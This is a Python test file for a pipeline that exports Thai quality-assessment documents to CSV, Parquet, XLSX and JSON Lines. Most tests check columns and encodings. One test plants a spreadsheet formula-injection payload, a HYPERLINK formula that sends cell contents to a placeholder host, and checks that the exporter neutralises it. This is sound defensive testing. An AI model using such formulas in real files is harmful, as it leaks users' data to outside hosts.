"""The four tables, in CSV (UTF-8 with BOM), Parquet, XLSX and JSON Lines, and the Python API."""

from __future__ import annotations

import json

import pandas as pd
import pytest

import pipeline
from pipeline.export import write_dataset

from conftest import CORPUS

REQUIRED = {
    "documents": {"file", "sha256", "format", "status", "error", "organisation", "fiscal_year_be", "framework",
                  "standards_found", "indicators_found", "standards_stated", "indicators_stated"},
    "standards": {"file", "standard", "name", "score", "level", "level_label"},
    "indicators": {"file", "standard", "indicator", "name", "level", "level_label", "score", "method", "evidence",
                   "location", "needs_review", "review_reason"},
    "findings": {"file", "check", "severity", "message", "expected", "actual", "location"},
}


@pytest.fixture(scope="module")
def dataset():
    return pipeline.extract([CORPUS / "000_lamphun2_2557_prose.docx", CORPUS / "esa2557_review_cases.docx",
                             CORPUS / "bad_empty.docx"])


def test_api_returns_dataframes_with_the_contract_columns(dataset):
    for name, cols in REQUIRED.items():
        df = getattr(dataset, name)
        assert isinstance(df, pd.DataFrame) and cols <= set(df.columns), name
    assert len(dataset.documents) == 3
    assert str(dataset.indicators["level"].dtype) == "Int64"


def test_written_files(tmp_path, dataset):
    write_dataset(dataset, tmp_path)
    for name in REQUIRED:
        raw = (tmp_path / f"{name}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to show Thai
        back = pd.read_csv(tmp_path / f"{name}.csv", encoding="utf-8-sig")
        assert len(back) == len(getattr(dataset, name))
        assert len(pd.read_parquet(tmp_path / f"{name}.parquet")) == len(getattr(dataset, name))
    sheets = pd.read_excel(tmp_path / "sarkit.xlsx", sheet_name=None)
    assert set(sheets) == set(REQUIRED)
    assert "ดีเยี่ยม" in set(sheets["indicators"]["level_label"].dropna())
    records = [json.loads(line) for line in (tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(records) == 3
    first = records[0]
    assert len(first["indicators"]) == 17 and first["indicators"][0]["level"] == 5
    assert not list(tmp_path.glob(".*"))  # no temporary files left behind


def test_review_rows_carry_their_reason(dataset):
    ind = dataset.indicators
    flagged = ind[ind["needs_review"]]
    assert len(flagged) == 5 and flagged["review_reason"].str.len().min() > 10
    assert flagged["level"].isna().all()


def test_formula_injection_is_neutralised_and_numbers_stay_numbers(tmp_path, make_file):
    """Document text and file names that a spreadsheet would run: text in CSV and XLSX, never a formula."""
    import os

    import openpyxl

    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"คลิก")'
    page = make_file("=cmd.html", f"<p>มาตรฐานที่ 1 {evil}</p><p>ตัวบ่งชี้ที่ 1 @SUM(1+1) ระดับดีมาก</p>")
    ds = pipeline.extract([page])
    os.umask(0o022)
    write_dataset(ds, tmp_path)
    csv = (tmp_path / "indicators.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM" in csv and ",'=" not in csv.split("\n", 1)[0]
    docs = (tmp_path / "documents.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd.html" not in docs  # a path starts with its folder, not with "="
    wb = openpyxl.load_workbook(tmp_path / "sarkit.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
    levels = [c.value for c in wb["indicators"]["G"][1:]]
    assert levels == [4]  # numbers stay numbers
    assert json.loads((tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0])["file"]
    assert oct((tmp_path / "documents.csv").stat().st_mode & 0o777) == "0o644"  # the user's umask, not 0600
